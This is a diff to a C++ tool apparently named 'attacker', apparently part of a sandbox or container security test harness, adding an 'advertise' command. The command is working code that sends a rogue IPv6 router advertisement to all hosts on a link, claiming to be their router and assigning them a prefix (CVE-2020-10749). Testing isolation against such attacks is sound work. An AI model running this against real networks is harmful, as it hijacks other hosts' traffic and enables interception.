@@ -4,8 +4,12 @@
 //   attacker COMMAND [ARGUMENT...]
 //
 // Commands that race go on until they are killed, and print each thing that they find once.
+#include <arpa/inet.h>
 #include <dirent.h>
 #include <fcntl.h>
+#include <net/if.h>
+#include <netinet/icmp6.h>
+#include <netinet/in.h>
 #include <poll.h>
 #include <sys/ioctl.h>
 #include <sys/mman.h>
@@ -241,12 +245,43 @@ void devices(const Words& words) {
   }
 }
 
+/** advertise INTERFACE: says to all on the link that this is their router, and that 2001:db8:bad::/64 is
+ * theirs (CVE-2020-10749). */
+void advertise(const Words& words) {
+  struct {
+    nd_router_advert head;
+    nd_opt_prefix_info prefix;
+  } message{};
+  constexpr uint16_t kSeconds = 1800;
+  constexpr uint8_t kPrefixBits = 64;
+  constexpr int kHops = 255;  // those of others are not believed
+  message.head.nd_ra_type = ND_ROUTER_ADVERT;
+  message.head.nd_ra_router_lifetime = htons(kSeconds);
+  message.prefix.nd_opt_pi_type = ND_OPT_PREFIX_INFORMATION;
+  message.prefix.nd_opt_pi_len = sizeof message.prefix / 8;
+  message.prefix.nd_opt_pi_prefix_len = kPrefixBits;
+  message.prefix.nd_opt_pi_flags_reserved = ND_OPT_PI_FLAG_ONLINK | ND_OPT_PI_FLAG_AUTO;
+  message.prefix.nd_opt_pi_valid_time = htonl(kSeconds);
+  message.prefix.nd_opt_pi_preferred_time = htonl(kSeconds);
+  ::inet_pton(AF_INET6, "2001:db8:bad::", &message.prefix.nd_opt_pi_prefix);
+  sockaddr_in6 everybody{};
+  everybody.sin6_family = AF_INET6;
+  everybody.sin6_scope_id = ::if_nametoindex(words.at(0).c_str());
+  ::inet_pton(AF_INET6, "ff02::1", &everybody.sin6_addr);
+  const int raw = ::socket(AF_INET6, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_ICMPV6);
+  ::setsockopt(raw, IPPROTO_IPV6, IPV6_MULTICAST_HOPS, &kHops, sizeof kHops);
+  const ssize_t sent =
+      ::sendto(raw, &message, sizeof message, 0, reinterpret_cast<sockaddr*>(&everybody), sizeof everybody);
+  tell_once("sent=" + outcome(sent));
+  ::close(raw);
+}
+
 constexpr struct {
   const char* name;
   void (*run)(const Words&);
 } kCommands[] = {
-    {"swap", swap},         {"overwrite", overwrite}, {"spy", spy},
-    {"families", families}, {"type", type},           {"devices", devices},
+    {"swap", swap},       {"overwrite", overwrite}, {"spy", spy}, {"families", families}, {"type", type},
+    {"devices", devices}, {"advertise", advertise},
 };
 
 }  // namespace
